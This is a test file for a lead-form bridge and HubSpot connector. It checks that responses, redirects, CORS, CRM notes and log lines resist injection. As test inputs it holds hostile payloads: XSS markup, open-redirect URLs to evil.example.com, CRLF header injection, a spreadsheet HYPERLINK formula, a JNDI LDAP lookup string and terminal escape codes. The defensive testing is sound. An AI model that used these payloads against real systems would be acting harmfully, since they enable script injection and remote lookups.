import { describe, expect, it } from "vitest";
import type { Content } from "../../../lambda/connectors/contract/http.ts";
import { describeCall } from "../../../lambda/connectors/kit/out/describe-call.ts";
import { hubspot } from "../../../lambda/connectors/vendors/hubspot/hubspot.ts";
import { RejectedError, TransientError } from "../../../lambda/runtime/errors.ts";
import { loggable } from "../../../lambda/runtime/log.ts";
import { noon } from "../../fakes/leads.ts";
import { answeredWith, sentAs } from "../../fakes/recording-crm.ts";
import { dana, openDoors, type Received } from "./doors.ts";

/** What comes back out of the bridge: pages, headers, notes in a CRM, lines of a log. */

const page = "https://www.example.com";
const website = {
  connector: "html-form",
  account: "main",
  team: 1,
  settings: { allowedOrigins: [page], redirect: `${page}/thanks`, allowedRedirects: [`${page}/solar`] },
};
const plain = { connector: "html-form", account: "main", team: 1 };
const openForms = () => openDoors({ config: { sources: { website, plain } } });
const form = (fields: Record<string, string>, headers: Record<string, string> = {}) => ({
  body: new URLSearchParams(fields).toString(),
  headers: { "content-type": "application/x-www-form-urlencoded", "sec-fetch-mode": "navigate", ...headers },
});

const markup = `"><script>alert(1)</script><img src=x onerror=alert(1)>'`;

describe("an answer", () => {
  it("never repeats the request, whatever is wrong with it, and nobody may keep or guess it", async () => {
    const { send, keyOf } = await openForms();
    const canary = "canary-7f3a";
    const path = `/leads/website/${keyOf("website")}`;
    const marked = { "idempotency-key": canary, referer: `https://${canary}.example.com/`, "user-agent": canary };
    const answers: Received[] = await Promise.all([
      send(`/leads/${canary}`, { body: dana }),
      send(`/leads/website/${canary}`, form({ phone: canary })),
      send(path, form({ phone: canary, name: markup }, marked)),
      send(path, { body: `{"${canary}"`, headers: { "content-type": "application/json" } }),
      send(path, { body: `<${canary}`, headers: { "content-type": "text/xml" } }),
      send(path, { body: "x".repeat(300_000) + canary }),
      send(path, { method: "DELETE", body: canary }),
      send(path, form({ ...dana, _next: `https://${canary}.example.com/` })),
      send(path, form(dana, { origin: `https://${canary}.example.com` })),
    ]);
    for (const { headers, body } of answers) {
      expect(`${JSON.stringify(headers)} ${body}`).not.toMatch(/canary|onerror/);
      expect(headers).toMatchObject({ "cache-control": "no-store", "x-content-type-options": "nosniff" });
      expect(headers["content-security-policy"]).toContain("default-src 'none'");
      // A form may have its visitor's page shown in a frame; what is no page for people, nobody frames.
      const isPage = headers["content-type"]?.startsWith("text/html");
      expect(headers["content-security-policy"]?.includes("frame-ancestors 'none'")).toBe(!isPage);
      expect(headers.server ?? headers["x-powered-by"]).toBeUndefined();
    }
  });

  it("that is a page tells no other site the address it was posted to, key included", async () => {
    const { send, keyOf } = await openForms();
    const path = `/leads/plain/${keyOf("plain")}`;
    for (const fields of [dana, { ...dana, phone: "1" }]) {
      const { headers, body } = await send(path, form(fields));
      expect(headers["referrer-policy"]).toBe("no-referrer");
      expect(body).not.toContain(keyOf("plain"));
      expect(body).not.toMatch(/<script|src=|http/);
    }
  });

  it("F87: that sends a visitor on leads to the configured page alone", async () => {
    const { send, keyOf } = await openForms();
    const path = `/leads/website/${keyOf("website")}`;
    for (const wish of [
      "https://evil.example.com/",
      "//evil.example.com/",
      "/\\evil.example.com",
      `${page}.evil.example.com/`,
      `${page}@evil.example.com/`,
      `https://user:pw@www.example.com/solar`,
      `${page}/solar/../../other`,
      `${page}/solar\r\nset-cookie: a=b`,
      "javascript:alert(1)",
      "data:text/html,x",
      " ",
    ]) {
      const { status, headers } = await send(path, form({ ...dana, _next: wish }));
      expect(status).toBe(303);
      expect([`${page}/thanks`, `${page}/solar`]).toContain(headers.location?.replace(/set-cookie.*$/, ""));
      expect(headers["set-cookie"]).toBeUndefined();
    }
  });

  it("is read by scripts of no page but those that are named, nor by one that hides where it comes from", async () => {
    const { send, keyOf } = await openForms();
    const path = `/leads/website/${keyOf("website")}`;
    for (const origin of [
      "null",
      "https://evil.example.com",
      `${page}.evil.example.com`,
      "https://www.example.com:8443",
      "http://www.example.com",
      "https://www-example.com",
      "https://wwwxexample.com",
      `${page}/`,
      "https://WWW.EXAMPLE.COM",
      "*",
    ]) {
      for (const method of ["POST", "OPTIONS"]) {
        const { headers } = await send(path, { method, body: dana, headers: { origin } });
        expect(headers["access-control-allow-origin"]).toBeUndefined();
        expect(headers["access-control-allow-credentials"]).toBeUndefined();
      }
    }
    const { headers } = await send(path, { body: dana, headers: { origin: page } });
    expect(headers["access-control-allow-origin"]).toBe(page);
    expect(headers.vary).toBe("origin");
  });

  it("links back to no page but those that are named", async () => {
    const { send, keyOf } = await openForms();
    const path = `/leads/website/${keyOf("website")}`;
    for (const referer of ["javascript:alert(1)", "https://evil.example.com/", `${page}.evil.example.com/`]) {
      expect((await send(path, form({ phone: "1" }, { referer }))).body).not.toContain("<a ");
    }
    const { body } = await send(path, form({ phone: "1" }, { referer: `${page}/"onmouseover="alert(1)` }));
    expect(body).not.toContain('"onmouseover');
  });
});

describe("a note in the CRM", () => {
  it("F90: shows what people and agents said as text: no markup, no script, no other link", async () => {
    const bodies: unknown[] = [];
    const call = {
      callId: "77",
      final: true,
      seconds: 60,
      status: markup,
      agent: { name: markup },
      team: markup,
      error: markup,
      transcript: `${markup}\n=HYPERLINK("https://evil.example.com")`,
    };
    const lead = { id: "lead_1", source: "website", receivedAt: noon.toISOString(), person: { firstName: markup } };
    const request = async (_method: string, _path: string, content?: Content) => {
      bodies.push(sentAs(content).body);
      return answeredWith({ id: "1" });
    };
    const record = { type: "contact", id: "../../owners" };
    const reporter = hubspot.report.bind({});
    await reporter.create({ request }, { call, lead, record, credentials: {}, now: noon });
    const { properties } = bodies[0] as { properties: Record<string, string> };
    expect(properties.hs_call_body?.replaceAll("<br>", "")).not.toMatch(/[<>]/);
    expect(describeCall({ call, lead })).toContain(markup);
  });
});

describe("a line of the log", () => {
  const attacks = [
    "a\r\nb",
    'x","level":"error","event":"gate closed',
    "\u001b[2J\u001b]0;owned\u0007",
    "\u009b31m",
    "\u2028\u2029\u0085",
    "\u202egnitirw",
    "\u0000",
    "$" + "{jndi:ldap://evil.example.com}",
  ];

  it("F87: is one line of JSON whatever stands in it, and nothing in it acts on a terminal", () => {
    for (const text of attacks) {
      const errors = [new Error(text), new RejectedError(400, text), new TransientError(text, { detail: text }), text];
      for (const error of errors) {
        const line = JSON.stringify(loggable({ source: text, leadId: text, callId: text, reason: text, error }));
        expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e]/u);
        expect(Object.keys(JSON.parse(line))).toEqual(["source", "leadId", "callId", "reason", "error"]);
        expect(Object.values(JSON.parse(line)).join()).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e]/u);
      }
    }
  });

  it("F87/F98: never holds a header, a name, a path or a body of a request", async () => {
    const { send, keyOf, tokenOf, lines } = await openForms();
    for (const text of attacks) {
      const encoded = encodeURIComponent(text);
      const header = text.replace(/[^\x20-\x7e]/g, "");
      const headers = {
        "user-agent": `canary ${header}`,
        "x-forwarded-for": `canary${header}`,
        "idempotency-key": header,
      };
      await send(`/leads/${encoded}canary/${encoded}`, { body: dana, headers });
      await send(`/leads/website/${encoded}canary`, { body: dana, headers });
      await send(`/leads/website/${keyOf("website")}`, {
        body: { ...dana, [`canary${text}`]: `canary${text}` },
        headers,
      });
      await send(`/callingly/${encoded}canary/x/y`, { body: { id: `canary${text}` } });
      await send(`/callingly/main/call_completed/${tokenOf("main")}`, { body: { id: `canary${text}` } });
    }
    expect(lines.length).toBeGreaterThan(10);
    expect(lines.join("\n")).not.toMatch(/canary|Dana|5550123|jndi/);
    for (const line of lines) expect(JSON.parse(line)).toHaveProperty("message");
  });
});
